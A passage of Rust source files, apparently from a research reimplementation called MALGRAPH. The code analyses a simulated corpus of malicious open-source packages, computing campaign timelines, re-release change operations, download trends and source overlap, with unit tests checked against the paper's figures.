) -> Vec<TimelineEntry> {
    let Some(node) = graph.primary_node(member) else {
        return Vec::new();
    };
    let group = graph
        .graph
        .reachable(node, |l| *l == Relation::Coexisting);
    timeline_entries(group, graph, dataset)
}

fn timeline_entries(
    group: Vec<NodeId>,
    graph: &MalGraph,
    dataset: &CollectedDataset,
) -> Vec<TimelineEntry> {
    let mut entries: Vec<TimelineEntry> = group
        .into_iter()
        .filter_map(|n| {
            let pkg = &graph.graph.node(n).package;
            let collected = dataset.get(pkg)?;
            Some(TimelineEntry {
                released: collected.meta.map(|m| m.released)?,
                package: pkg.clone(),
            })
        })
        .collect();
    entries.sort_by_key(|e| (e.released, e.package.clone()));
    entries
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::build::{build, BuildOptions};
    use crawler::collect;
    use registry_sim::{World, WorldConfig};

    fn setup() -> (MalGraph, CollectedDataset) {
        let world = World::generate(WorldConfig::small(71));
        let dataset = collect(&world);
        let graph = build(&dataset, &BuildOptions::default());
        (graph, dataset)
    }

    #[test]
    fn deg_campaigns_outlast_sg_campaigns() {
        let (graph, dataset) = setup();
        let sg = active_periods(&graph, &dataset, Relation::Similar);
        let deg = active_periods(&graph, &dataset, Relation::Dependency);
        assert!(!sg.is_empty());
        assert!(!deg.is_empty());
        let mean = |v: &[SimDuration]| {
            v.iter().map(|d| d.as_days_f64()).sum::<f64>() / v.len() as f64
        };
        assert!(
            mean(&deg) > mean(&sg),
            "Fig. 9: DeG ({:.0}d) must outlast SG ({:.0}d)",
            mean(&deg),
            mean(&sg)
        );
    }

    #[test]
    fn sg_campaigns_are_short_lived() {
        let (graph, dataset) = setup();
        let sg = active_periods(&graph, &dataset, Relation::Similar);
        let within_quarter = fraction_within(&sg, SimDuration::days(90));
        assert!(
            within_quarter > 0.5,
            "Fig. 9: most SG campaigns span days–weeks, got {within_quarter:.2} within 90d"
        );
    }

    #[test]
    fn cdf_is_monotone_ending_at_one() {
        let (graph, dataset) = setup();
        let cg = active_periods(&graph, &dataset, Relation::Coexisting);
        let cdf = period_cdf(&cg);
        assert!(!cdf.is_empty());
        for pair in cdf.windows(2) {
            assert!(pair[0].0 <= pair[1].0);
            assert!(pair[0].1 <= pair[1].1);
        }
        assert!((cdf.last().unwrap().1 - 1.0).abs() < 1e-9);
    }

    #[test]
    fn lifecycle_shows_fast_removal() {
        let (_, dataset) = setup();
        let stats = lifecycle_stats(&dataset);
        assert!(stats.measured > 0);
        assert!(
            stats.median_persistence_hours < 24.0 * 14.0,
            "median persistence {:.1}h is implausibly long",
            stats.median_persistence_hours
        );
        assert!(stats.removed_within_day > 0.1);
        assert!(stats.p90_persistence_hours >= stats.median_persistence_hours);
    }

    #[test]
    fn showcase_timeline_matches_fig8_shape() {
        let (graph, dataset) = setup();
        let member: PackageId = "npm/etc-crypto@1.0.0".parse().unwrap();
        let timeline = campaign_timeline(&graph, &dataset, &member);
        assert!(
            timeline.len() >= 10,
            "the showcase campaign has 15 packages, found {}",
            timeline.len()
        );
        // Chronological and within August 2023.
        for pair in timeline.windows(2) {
            assert!(pair[0].released <= pair[1].released);
        }
        assert_eq!(timeline[0].released.year(), 2023);
        assert_eq!(timeline[0].released.month(), 8);
    }

    #[test]
    fn indexed_timeline_matches_reference() {
        let (graph, dataset) = setup();
        let member: PackageId = "npm/etc-crypto@1.0.0".parse().unwrap();
        assert_eq!(
            campaign_timeline(&graph, &dataset, &member),
            campaign_timeline_reference(&graph, &dataset, &member)
        );
    }

    #[test]
    fn unknown_member_gives_empty_timeline() {
        let (graph, dataset) = setup();
        let ghost: PackageId = "npm/ghost@9.9.9".parse().unwrap();
        assert!(campaign_timeline(&graph, &dataset, &ghost).is_empty());
    }
}
