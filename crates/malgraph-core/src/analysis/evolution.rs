//! RQ4 — Campaign evolution: changing operations (Fig. 12), download
//! evolution (Fig. 11) and the IDN ranking (Table VIII).
//!
//! Everything here is *recomputed from the corpus*, not read from
//! simulator ground truth: operations are detected by diffing consecutive
//! release attempts (identity, metadata, code), and download numbers come
//! from public registry metadata.

use crate::build::MalGraph;
use crate::node::Relation;
use crawler::registry::RegistryView;
use crawler::{Archive, CollectedDataset, CollectedPackage};
use minilang::diff::diff_lines;
use oss_types::{ChangeOp, OpSet, PackageId};
use std::collections::{HashMap, HashSet};

/// Result of diffing two consecutive release attempts.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct DetectedChange {
    /// The operations detected.
    pub ops: OpSet,
    /// Changed source lines when both archives were available and the
    /// code changed.
    pub changed_lines: Option<usize>,
}

/// Diffs two attempts: identity (CN/CV), metadata (CD/CDep) and code
/// (CC). Metadata/code operations are only observable when both archives
/// are available.
pub fn detect_change(
    prev_id: &PackageId,
    prev_archive: Option<&Archive>,
    next_id: &PackageId,
    next_archive: Option<&Archive>,
) -> DetectedChange {
    let mut ops = OpSet::empty();
    if prev_id.name() != next_id.name() {
        ops.insert(ChangeOp::ChangeName);
    } else if prev_id.version() != next_id.version() {
        ops.insert(ChangeOp::ChangeVersion);
    }
    let mut changed_lines = None;
    if let (Some(a), Some(b)) = (prev_archive, next_archive) {
        if a.description != b.description {
            ops.insert(ChangeOp::ChangeDescription);
        }
        if a.dependencies != b.dependencies {
            ops.insert(ChangeOp::ChangeDependency);
        }
        if a.code != b.code {
            ops.insert(ChangeOp::ChangeCode);
            let lines_a: Vec<&str> = a.code.lines().collect();
            let lines_b: Vec<&str> = b.code.lines().collect();
            changed_lines = Some(diff_lines(&lines_a, &lines_b).changed_lines());
        }
    }
    DetectedChange { ops, changed_lines }
}

/// The similar-group release sequences: for every SG, its packages in
/// release order (packages without registry metadata fall back to first
/// disclosure).
pub fn release_sequences<'d>(
    graph: &MalGraph,
    dataset: &'d CollectedDataset,
) -> Vec<Vec<&'d CollectedPackage>> {
    release_sequences_in(graph.groups(Relation::Similar), graph, dataset)
}

/// [`release_sequences`] over an explicit SG list — the serial-reference
/// path of the equivalence harness passes freshly computed components
/// through here. The memoized fast path is
/// [`AnalysisIndex::release_sequences`](crate::analysis::index::AnalysisIndex::release_sequences),
/// which caches the sorted member positions across experiments.
pub fn release_sequences_in<'d>(
    groups: &[Vec<graphstore::NodeId>],
    graph: &MalGraph,
    dataset: &'d CollectedDataset,
) -> Vec<Vec<&'d CollectedPackage>> {
    let by_id: HashMap<&PackageId, &CollectedPackage> =
        dataset.packages.iter().map(|p| (&p.id, p)).collect();
    groups
        .iter()
        .map(|group| {
            let mut members: Vec<&CollectedPackage> = group
                .iter()
                .filter_map(|&n| by_id.get(&graph.graph.node(n).package).copied())
                .collect();
            members.sort_by_key(|p| {
                p.meta
                    .map(|m| m.released)
                    .or_else(|| p.mentions.iter().map(|&(_, t)| t).min())
                    .unwrap_or(oss_types::SimTime::EPOCH)
            });
            members
        })
        .filter(|g| g.len() >= 2)
        .collect()
}

/// Fig. 12: the distribution of changing operations over all re-release
/// attempts in the similar groups.
#[derive(Debug, Clone, PartialEq)]
pub struct OpDistribution {
    /// Re-release attempts inspected.
    pub attempts: usize,
    /// Percentage of attempts using each operation, in
    /// [`ChangeOp::ALL`] order.
    pub pct: [f64; 5],
    /// Mean changed lines over CC attempts with both archives available
    /// (the paper reports ≈3.7).
    pub mean_cc_lines: f64,
}

impl OpDistribution {
    /// Percentage for one operation.
    pub fn pct_of(&self, op: ChangeOp) -> f64 {
        let idx = ChangeOp::ALL.iter().position(|&o| o == op).expect("exhaustive");
        self.pct[idx]
    }
}

/// Computes Fig. 12 over the similar-group release sequences.
pub fn op_distribution(sequences: &[Vec<&CollectedPackage>]) -> OpDistribution {
    let mut attempts = 0usize;
    let mut counts = [0usize; 5];
    let mut cc_lines = Vec::new();
    for seq in sequences {
        for pair in seq.windows(2) {
            let change = detect_change(
                &pair[0].id,
                pair[0].archive.as_ref(),
                &pair[1].id,
                pair[1].archive.as_ref(),
            );
            attempts += 1;
            for (i, op) in ChangeOp::ALL.into_iter().enumerate() {
                if change.ops.contains(op) {
                    counts[i] += 1;
                }
            }
            if let Some(lines) = change.changed_lines {
                cc_lines.push(lines as f64);
            }
        }
    }
    let pct = if attempts == 0 {
        [0.0; 5]
    } else {
        let mut out = [0.0; 5];
        for i in 0..5 {
            out[i] = 100.0 * counts[i] as f64 / attempts as f64;
        }
        out
    };
    OpDistribution {
        attempts,
        pct,
        mean_cc_lines: if cc_lines.is_empty() {
            0.0
        } else {
            cc_lines.iter().sum::<f64>() / cc_lines.len() as f64
        },
    }
}

/// One box of the Fig.-11 download-evolution plot.
#[derive(Debug, Clone, PartialEq)]
pub struct DownloadBox {
    /// Release-attempt order (0-based).
    pub order: usize,
    /// Sample count.
    pub n: usize,
    /// Minimum.
    pub min: u64,
    /// First quartile.
    pub q1: u64,
    /// Median.
    pub median: u64,
    /// Third quartile.
    pub q3: u64,
    /// Maximum (the Table-VIII-scale outliers surface here).
    pub max: u64,
}

/// Fig. 11: download quartiles by release order across the similar
/// groups. `stride` keeps every `stride`-th order (the paper plots every
/// tenth box).
pub fn download_evolution(
    sequences: &[Vec<&CollectedPackage>],
    stride: usize,
) -> Vec<DownloadBox> {
    let series: Vec<Vec<u64>> = sequences
        .iter()
        .map(|seq| {
            seq.iter()
                .filter_map(|p| p.meta.map(|m| m.downloads))
                .collect()
        })
        .collect();
    download_evolution_from_series(&series, stride)
}

/// Download series for every *version lineage* of the corpus: all
/// registry versions of each collected package name, in version order.
/// This is where the paper's outliers live — "those outliers belong to
/// popular packages where one version is denoted as the malware"
/// (§IV-E) — and it feeds both Fig. 11 and Table VIII.
pub fn lineage_download_series(
    dataset: &CollectedDataset,
    registry: &dyn RegistryView,
) -> Vec<Vec<u64>> {
    let mut seen: HashSet<(oss_types::Ecosystem, String)> = HashSet::new();
    let mut out = Vec::new();
    for pkg in &dataset.packages {
        let key = (pkg.id.ecosystem(), pkg.id.name().as_str().to_owned());
        if !seen.insert(key) {
            continue;
        }
        let history = registry.version_history(pkg.id.ecosystem(), pkg.id.name());
        if history.len() >= 2 {
            out.push(history.into_iter().map(|(_, m)| m.downloads).collect());
        }
    }
    out
}

/// Core of Fig. 11 over raw per-attempt download series.
pub fn download_evolution_from_series(series: &[Vec<u64>], stride: usize) -> Vec<DownloadBox> {
    let stride = stride.max(1);
    let mut per_order: HashMap<usize, Vec<u64>> = HashMap::new();
    for seq in series {
        for (order, &downloads) in seq.iter().enumerate() {
            per_order.entry(order).or_default().push(downloads);
        }
    }
    let mut orders: Vec<usize> = per_order.keys().copied().collect();
    orders.sort_unstable();
    orders
        .into_iter()
        .filter(|o| o % stride == 0)
        .map(|order| {
            let mut values = per_order.remove(&order).expect("key exists");
            values.sort_unstable();
            let q = |f: f64| values[((values.len() - 1) as f64 * f).round() as usize];
            DownloadBox {
                order,
                n: values.len(),
                min: values[0],
                q1: q(0.25),
                median: q(0.5),
                q3: q(0.75),
                max: *values.last().expect("non-empty"),
            }
        })
        .collect()
}

/// One Table VIII row: an increase in download number and the operations
/// that accompanied it.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct IdnRow {
    /// Increase in download number between consecutive versions.
    pub idn: u64,
    /// Operation set of the re-release.
    pub ops: OpSet,
    /// The later release.
    pub package: PackageId,
}

/// Table VIII: ranks download increases across *version lineages* — all
/// registry versions of every collected package name, including the
/// benign earlier versions of trojaned packages (queried through the
/// public [`RegistryView`]).
pub fn idn_ranking(
    dataset: &CollectedDataset,
    registry: &dyn RegistryView,
    top: usize,
) -> Vec<IdnRow> {
    idn_ranking_with(dataset, registry, top, |id| dataset.get(id))
}

/// [`idn_ranking`] with corpus lookups answered by an
/// [`crate::analysis::index::AnalysisIndex`] instead of a linear scan per
/// consecutive-version pair. Identical output.
pub fn idn_ranking_indexed(
    index: &crate::analysis::index::AnalysisIndex,
    dataset: &CollectedDataset,
    registry: &dyn RegistryView,
    top: usize,
) -> Vec<IdnRow> {
    idn_ranking_with(dataset, registry, top, |id| {
        index.package_index(id).map(|i| &dataset.packages[i])
    })
}

fn idn_ranking_with<'d>(
    dataset: &'d CollectedDataset,
    registry: &dyn RegistryView,
    top: usize,
    mut lookup: impl FnMut(&PackageId) -> Option<&'d CollectedPackage>,
) -> Vec<IdnRow> {
    let mut seen: HashSet<(oss_types::Ecosystem, String)> = HashSet::new();
    let mut rows: Vec<IdnRow> = Vec::new();
    for pkg in &dataset.packages {
        let key = (pkg.id.ecosystem(), pkg.id.name().as_str().to_owned());
        if !seen.insert(key) {
            continue;
        }
        let history = registry.version_history(pkg.id.ecosystem(), pkg.id.name());
        for pair in history.windows(2) {
            let (prev_id, prev_meta) = &pair[0];
            let (next_id, next_meta) = &pair[1];
            let idn = next_meta.downloads.saturating_sub(prev_meta.downloads);
            if idn == 0 {
                continue;
            }
            // Archives: collected corpus first, live registry second.
            let prev_archive = lookup(prev_id)
                .and_then(|p| p.archive.clone())
                .or_else(|| registry.live_archive(prev_id));
            let next_archive = lookup(next_id)
                .and_then(|p| p.archive.clone())
                .or_else(|| registry.live_archive(next_id));
            let change = detect_change(
                prev_id,
                prev_archive.as_ref(),
                next_id,
                next_archive.as_ref(),
            );
            rows.push(IdnRow {
                idn,
                ops: change.ops,
                package: next_id.clone(),
            });
        }
    }
    rows.sort_by(|a, b| b.idn.cmp(&a.idn).then_with(|| a.package.cmp(&b.package)));
    rows.truncate(top);
    rows
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::build::{build, BuildOptions};
    use crawler::collect;
    use registry_sim::{World, WorldConfig};

    fn setup() -> (World, CollectedDataset, MalGraph) {
        let world = World::generate(WorldConfig::small(81));
        let dataset = collect(&world);
        let graph = build(&dataset, &BuildOptions::default());
        (world, dataset, graph)
    }

    #[test]
    fn detect_change_identity_ops() {
        let a: PackageId = "npm/colorslib@1.0.0".parse().unwrap();
        let b: PackageId = "npm/httpslib@1.0.0".parse().unwrap();
        let c: PackageId = "npm/colorslib@1.0.1".parse().unwrap();
        let cn = detect_change(&a, None, &b, None);
        assert!(cn.ops.contains(ChangeOp::ChangeName));
        assert!(!cn.ops.contains(ChangeOp::ChangeVersion));
        let cv = detect_change(&a, None, &c, None);
        assert!(cv.ops.contains(ChangeOp::ChangeVersion));
        assert!(!cv.ops.contains(ChangeOp::ChangeName));
    }

    #[test]
    fn detect_change_archive_ops() {
        let a: PackageId = "npm/a@1.0.0".parse().unwrap();
        let b: PackageId = "npm/b@1.0.0".parse().unwrap();
        let arch = |desc: &str, code: &str| Archive {
            description: desc.into(),
            dependencies: vec![],
            code: code.into(),
        };
        let change = detect_change(
            &a,
            Some(&arch("old desc", "x = 1\ny = 2\n")),
            &b,
            Some(&arch("new desc", "x = 1\ny = 3\n")),
        );
        assert!(change.ops.contains(ChangeOp::ChangeName));
        assert!(change.ops.contains(ChangeOp::ChangeDescription));
        assert!(change.ops.contains(ChangeOp::ChangeCode));
        assert!(!change.ops.contains(ChangeOp::ChangeDependency));
        assert_eq!(change.changed_lines, Some(1));
    }

    #[test]
    fn cn_dominates_the_detected_distribution() {
        let (_, dataset, graph) = setup();
        let sequences = release_sequences(&graph, &dataset);
        assert!(!sequences.is_empty());
        let dist = op_distribution(&sequences);
        assert!(dist.attempts > 10, "need attempts, got {}", dist.attempts);
        let cn = dist.pct_of(ChangeOp::ChangeName);
        assert!(cn > 80.0, "Fig. 12: CN ≈ 98.9%, detected {cn:.1}%");
        let cv = dist.pct_of(ChangeOp::ChangeVersion);
        assert!(cv < 20.0, "CV is rare, detected {cv:.1}%");
    }

    #[test]
    fn cc_changes_are_small() {
        let (_, dataset, graph) = setup();
        let sequences = release_sequences(&graph, &dataset);
        let dist = op_distribution(&sequences);
        if dist.pct_of(ChangeOp::ChangeCode) > 0.0 {
            assert!(
                dist.mean_cc_lines > 0.5 && dist.mean_cc_lines < 15.0,
                "paper: ≈3.7 changed lines, detected {:.1}",
                dist.mean_cc_lines
            );
        }
    }

    #[test]
    fn download_medians_are_tiny() {
        let (_, dataset, graph) = setup();
        let sequences = release_sequences(&graph, &dataset);
        let boxes = download_evolution(&sequences, 1);
        assert!(!boxes.is_empty());
        let low_median = boxes.iter().filter(|b| b.median <= 2).count();
        assert!(
            low_median * 10 >= boxes.len() * 6,
            "Fig. 11: most medians are 0–1"
        );
    }

    #[test]
    fn idn_ranking_surfaces_trojan_outliers() {
        let (world, dataset, _) = setup();
        let rows = idn_ranking(&dataset, &world, 10);
        assert!(!rows.is_empty());
        // Descending.
        for pair in rows.windows(2) {
            assert!(pair[0].idn >= pair[1].idn);
        }
        // The top row comes from a trojan lineage with compound growth.
        assert!(
            rows[0].idn > 1_000,
            "Table VIII: top IDN should be large, got {}",
            rows[0].idn
        );
        // Trojan re-releases keep the name: CV, not CN.
        assert!(
            rows[0].ops.contains(ChangeOp::ChangeVersion),
            "trojan lineages re-release by version, ops = {}",
            rows[0].ops
        );
    }

    #[test]
    fn stride_subsamples_boxes() {
        let (_, dataset, graph) = setup();
        let sequences = release_sequences(&graph, &dataset);
        let all = download_evolution(&sequences, 1);
        let strided = download_evolution(&sequences, 10);
        assert!(strided.len() <= all.len());
        assert!(strided.iter().all(|b| b.order % 10 == 0));
    }
}
