//! RQ1 — Overlapping degree: who reports what, and how much is shared
//! (paper Table IV, Fig. 4).

use crawler::CollectedDataset;
use oss_types::{Ecosystem, SourceId};
use std::collections::HashMap;

/// The 10×10 source-overlap matrix (Table IV).
#[derive(Debug, Clone)]
pub struct OverlapMatrix {
    /// Distinct-package count per source (the parenthesized header row).
    pub totals: HashMap<SourceId, usize>,
    /// `counts[i][j]` = packages mentioned by both `ALL[i]` and `ALL[j]`.
    pub counts: [[usize; 10]; 10],
}

impl OverlapMatrix {
    /// The overlap between two sources.
    pub fn get(&self, a: SourceId, b: SourceId) -> usize {
        let ia = index_of(a);
        let ib = index_of(b);
        self.counts[ia][ib]
    }

    /// Renders the matrix in the paper's layout.
    pub fn render(&self) -> String {
        let mut out = String::new();
        out.push_str("          ");
        for s in SourceId::ALL {
            out.push_str(&format!("{:>8}", s.abbrev()));
        }
        out.push('\n');
        for (i, row_source) in SourceId::ALL.into_iter().enumerate() {
            out.push_str(&format!(
                "{:>4} ({:>5})",
                row_source.abbrev(),
                self.totals.get(&row_source).copied().unwrap_or(0)
            ));
            for j in 0..10 {
                if i == j {
                    out.push_str("       —");
                } else {
                    out.push_str(&format!("{:>8}", self.counts[i][j]));
                }
            }
            out.push('\n');
        }
        out
    }
}

fn index_of(source: SourceId) -> usize {
    SourceId::ALL
        .iter()
        .position(|&s| s == source)
        .expect("SourceId::ALL is exhaustive")
}

/// Computes the overlap matrix over the corpus.
pub fn overlap_matrix(dataset: &CollectedDataset) -> OverlapMatrix {
    let mut totals: HashMap<SourceId, usize> = HashMap::new();
    let mut counts = [[0usize; 10]; 10];
    for pkg in &dataset.packages {
        let mut sources: Vec<SourceId> = pkg.mentions.iter().map(|&(s, _)| s).collect();
        sources.sort_unstable();
        sources.dedup();
        for &s in &sources {
            *totals.entry(s).or_default() += 1;
        }
        for i in 0..sources.len() {
            for j in (i + 1)..sources.len() {
                let (a, b) = (index_of(sources[i]), index_of(sources[j]));
                counts[a][b] += 1;
                counts[b][a] += 1;
            }
        }
    }
    OverlapMatrix { totals, counts }
}

/// Mean pairwise overlap within a category pair, used by the paper's
/// academia-vs-industry reading of Table IV.
pub fn category_mean_overlap(
    matrix: &OverlapMatrix,
    a: oss_types::SourceCategory,
    b: oss_types::SourceCategory,
) -> f64 {
    let mut total = 0usize;
    let mut cells = 0usize;
    for (i, sa) in SourceId::ALL.into_iter().enumerate() {
        for (j, sb) in SourceId::ALL.into_iter().enumerate() {
            if i == j {
                continue;
            }
            let matches = (sa.category() == a && sb.category() == b)
                || (sa.category() == b && sb.category() == a);
            if matches {
                total += matrix.counts[i][j];
                cells += 1;
            }
        }
    }
    if cells == 0 {
        0.0
    } else {
        total as f64 / cells as f64
    }
}

/// Fig. 4: CDF of DG size (sources per package) for one ecosystem, as
/// `(size, fraction ≤ size)` points.
pub fn dg_size_cdf(dataset: &CollectedDataset, eco: Ecosystem) -> Vec<(usize, f64)> {
    let mut sizes: Vec<usize> = dataset
        .packages
        .iter()
        .filter(|p| p.id.ecosystem() == eco)
        .map(|p| {
            let mut sources: Vec<SourceId> = p.mentions.iter().map(|&(s, _)| s).collect();
            sources.sort_unstable();
            sources.dedup();
            sources.len()
        })
        .collect();
    sizes.sort_unstable();
    let n = sizes.len() as f64;
    let mut out: Vec<(usize, f64)> = Vec::new();
    for (i, &s) in sizes.iter().enumerate() {
        let frac = (i + 1) as f64 / n;
        match out.last_mut() {
            Some(last) if last.0 == s => last.1 = frac,
            _ => out.push((s, frac)),
        }
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;
    use crawler::collect;
    use registry_sim::{World, WorldConfig};

    fn dataset() -> CollectedDataset {
        collect(&World::generate(WorldConfig::small(41)))
    }

    #[test]
    fn matrix_is_symmetric_with_zero_diagonal() {
        let m = overlap_matrix(&dataset());
        for i in 0..10 {
            assert_eq!(m.counts[i][i], 0);
            for j in 0..10 {
                assert_eq!(m.counts[i][j], m.counts[j][i]);
            }
        }
    }

    #[test]
    fn totals_match_mention_dedup() {
        let ds = dataset();
        let m = overlap_matrix(&ds);
        let sum: usize = m.totals.values().sum();
        let expect: usize = ds
            .packages
            .iter()
            .map(|p| {
                let mut s: Vec<_> = p.mentions.iter().map(|&(s, _)| s).collect();
                s.sort_unstable();
                s.dedup();
                s.len()
            })
            .sum();
        assert_eq!(sum, expect);
    }

    #[test]
    fn known_overlaps_are_nonzero() {
        // The calibrated world always carries B.K↔M.D and T.↔P. overlap.
        let m = overlap_matrix(&dataset());
        assert!(m.get(SourceId::BackstabberKnife, SourceId::MalPyPI) > 0);
        assert!(m.get(SourceId::Tianwen, SourceId::Phylum) > 0);
    }

    #[test]
    fn academia_pairs_overlap_more_than_industry_pairs() {
        use oss_types::SourceCategory::{Academia, Industry};
        let m = overlap_matrix(&dataset());
        let aa = category_mean_overlap(&m, Academia, Academia);
        let ii = category_mean_overlap(&m, Industry, Industry);
        assert!(
            aa > ii,
            "paper: academia redundancy ({aa:.1}) exceeds industry ({ii:.1})"
        );
    }

    #[test]
    fn dg_cdf_is_monotone_and_mostly_singletons() {
        let cdf = dg_size_cdf(&dataset(), Ecosystem::PyPI);
        assert!(!cdf.is_empty());
        assert_eq!(cdf[0].0, 1);
        assert!(cdf[0].1 > 0.6, "most packages single-source, got {}", cdf[0].1);
        for pair in cdf.windows(2) {
            assert!(pair[0].1 <= pair[1].1);
        }
        assert!((cdf.last().unwrap().1 - 1.0).abs() < 1e-9);
    }

    #[test]
    fn render_contains_all_abbrevs() {
        let m = overlap_matrix(&dataset());
        let text = m.render();
        for s in SourceId::ALL {
            assert!(text.contains(s.abbrev()));
        }
    }
}
