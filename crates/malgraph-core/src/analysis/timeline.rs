//! Release-timeline analysis (paper Fig. 2 and the §II-D dynamic-changing
//! argument).

use crawler::CollectedDataset;
use oss_types::Ecosystem;
use std::collections::BTreeMap;

/// One timeline bucket: a calendar quarter.
pub type Quarter = (i32, u32);

/// Release counts per quarter, optionally restricted to one ecosystem.
pub fn releases_per_quarter(
    dataset: &CollectedDataset,
    ecosystem: Option<Ecosystem>,
) -> BTreeMap<Quarter, usize> {
    let mut buckets: BTreeMap<Quarter, usize> = BTreeMap::new();
    for pkg in &dataset.packages {
        if let Some(eco) = ecosystem {
            if pkg.id.ecosystem() != eco {
                continue;
            }
        }
        if let Some(meta) = pkg.meta {
            *buckets
                .entry((meta.released.year(), meta.released.quarter()))
                .or_default() += 1;
        }
    }
    buckets
}

/// Summary of the timeline's shape, used to check the paper's Fig.-2
/// claims ("covering 2018 to 2024", growth into 2022–2023).
#[derive(Debug, Clone, PartialEq)]
pub struct TimelineSummary {
    /// First quarter with a release.
    pub first: Option<Quarter>,
    /// Last quarter with a release.
    pub last: Option<Quarter>,
    /// The busiest quarter and its count.
    pub peak: Option<(Quarter, usize)>,
    /// Fraction of releases in 2022 or later.
    pub recent_fraction: f64,
}

/// Summarizes the quarterly series.
pub fn summarize(buckets: &BTreeMap<Quarter, usize>) -> TimelineSummary {
    let total: usize = buckets.values().sum();
    let recent: usize = buckets
        .iter()
        .filter(|((year, _), _)| *year >= 2022)
        .map(|(_, c)| c)
        .sum();
    TimelineSummary {
        first: buckets.keys().next().copied(),
        last: buckets.keys().next_back().copied(),
        peak: buckets
            .iter()
            .max_by_key(|(_, &c)| c)
            .map(|(&q, &c)| (q, c)),
        recent_fraction: if total == 0 {
            0.0
        } else {
            recent as f64 / total as f64
        },
    }
}

/// §II-D's stability argument: the analysis results should be stable as
/// the corpus grows over time. This computes the single-source fraction
/// (the headline of Fig. 4) cumulatively per year, so stability is
/// measurable rather than asserted.
pub fn single_source_fraction_by_year(dataset: &CollectedDataset) -> Vec<(i32, f64)> {
    let mut per_year: BTreeMap<i32, (usize, usize)> = BTreeMap::new();
    for pkg in &dataset.packages {
        let Some(meta) = pkg.meta else { continue };
        let year = meta.released.year();
        let entry = per_year.entry(year).or_default();
        entry.1 += 1;
        let mut sources: Vec<_> = pkg.mentions.iter().map(|&(s, _)| s).collect();
        sources.sort_unstable();
        sources.dedup();
        if sources.len() == 1 {
            entry.0 += 1;
        }
    }
    // Cumulative: "if we had stopped collecting in year Y".
    let mut singles = 0usize;
    let mut total = 0usize;
    per_year
        .into_iter()
        .map(|(year, (s, t))| {
            singles += s;
            total += t;
            (year, singles as f64 / total.max(1) as f64)
        })
        .collect()
}

#[cfg(test)]
mod tests {
    use super::*;
    use crawler::collect;
    use registry_sim::{World, WorldConfig};

    fn dataset() -> CollectedDataset {
        collect(&World::generate(WorldConfig::small(121)))
    }

    #[test]
    fn timeline_spans_the_fig2_range_and_peaks_late() {
        let ds = dataset();
        let buckets = releases_per_quarter(&ds, None);
        let summary = summarize(&buckets);
        let first = summary.first.expect("non-empty corpus");
        let last = summary.last.expect("non-empty corpus");
        assert!(first.0 <= 2019, "first release year {}", first.0);
        assert!(last.0 >= 2023, "last release year {}", last.0);
        let (peak_q, _) = summary.peak.expect("non-empty corpus");
        assert!(peak_q.0 >= 2022, "Fig. 2 peaks in 2022–2023, got {peak_q:?}");
        assert!(
            summary.recent_fraction > 0.5,
            "most releases are recent: {:.2}",
            summary.recent_fraction
        );
    }

    #[test]
    fn ecosystem_filter_partitions_the_counts() {
        let ds = dataset();
        let all: usize = releases_per_quarter(&ds, None).values().sum();
        let per_eco: usize = Ecosystem::ALL
            .iter()
            .map(|&e| releases_per_quarter(&ds, Some(e)).values().sum::<usize>())
            .sum();
        assert_eq!(all, per_eco);
    }

    #[test]
    fn single_source_fraction_is_stable_over_time() {
        // The §II-D claim: adding years of data does not swing the
        // headline single-source fraction wildly.
        let ds = dataset();
        let series = single_source_fraction_by_year(&ds);
        assert!(series.len() >= 4);
        let late: Vec<f64> = series
            .iter()
            .filter(|(y, _)| *y >= 2021)
            .map(|(_, f)| *f)
            .collect();
        let min = late.iter().copied().fold(f64::INFINITY, f64::min);
        let max = late.iter().copied().fold(0.0f64, f64::max);
        assert!(
            max - min < 0.25,
            "single-source fraction drifts too much: {series:?}"
        );
    }

    #[test]
    fn empty_dataset_summary() {
        let buckets = BTreeMap::new();
        let summary = summarize(&buckets);
        assert_eq!(summary.first, None);
        assert_eq!(summary.peak, None);
        assert_eq!(summary.recent_fraction, 0.0);
    }
}
