//! MALGRAPH — the paper's primary contribution.
//!
//! A knowledge graph over an OSS-malware corpus: nodes are malicious
//! packages as collected from individual sources; edges carry one of four
//! relations (duplicated / dependency / similar / co-existing, §III-A);
//! connected subgraphs per relation (DG / DeG / SG / CG) are the paper's
//! unit of analysis. On top of the graph sit the four empirical analyses
//! of §IV (see [`analysis`]).
//!
//! The crate consumes only the collected corpus
//! ([`crawler::CollectedDataset`]) plus public registry metadata
//! ([`crawler::RegistryView`]); simulator ground truth is used nowhere in
//! the pipeline, only in validation tests.
//!
//! # Examples
//!
//! ```
//! use crawler::collect;
//! use malgraph_core::{build, BuildOptions, Relation};
//! use registry_sim::{World, WorldConfig};
//!
//! let world = World::generate(WorldConfig::small(1));
//! let corpus = collect(&world);
//! let graph = build(&corpus, &BuildOptions::default());
//! let similar_groups = graph.groups(Relation::Similar);
//! assert!(!similar_groups.is_empty());
//! ```

#![forbid(unsafe_code)]
#![warn(missing_docs)]

pub mod analysis;
pub mod build;
pub mod checkpoint;
pub mod ingest;
pub mod node;
pub mod similarity;

pub use build::{build, BuildOptions, MalGraph};
pub use checkpoint::{
    recover, run_checkpointed_ingest, CheckpointError, CheckpointOptions, CheckpointStore,
    IngestRunError, RunStamp, CRASH_POINTS,
};
pub use ingest::IngestState;
pub use node::{MalNode, Relation};
pub use similarity::{similar_pairs, similar_pairs_cached, SimilarityCache, SimilarityConfig};

use graphstore::NodeId;

/// Renders one group (e.g. the Fig. 3 example) as Graphviz DOT, with
/// package identities as node labels and relation names on edges.
pub fn group_to_dot(graph: &MalGraph, members: &[NodeId]) -> String {
    graphstore::dot::to_dot(
        &graph.graph,
        Some(members),
        |_, node| format!("{}\\n{}", node.package, node.source.abbrev()),
        |relation| relation.group_label().to_string(),
    )
}

#[cfg(test)]
mod tests {
    use super::*;
    use crawler::collect;
    use registry_sim::{World, WorldConfig};

    #[test]
    fn dot_rendering_of_a_group() {
        let world = World::generate(WorldConfig::small(91));
        let corpus = collect(&world);
        let graph = build(&corpus, &BuildOptions::default());
        let groups = graph.groups(Relation::Coexisting);
        let group = groups.iter().max_by_key(|g| g.len()).expect("cg exists");
        let dot = group_to_dot(&graph, group);
        assert!(dot.contains("graph malgraph"));
        assert!(dot.contains("CG"));
        // Every member appears.
        assert!(dot.matches("label=").count() > group.len());
    }
}
