//! MALGRAPH nodes and relations.

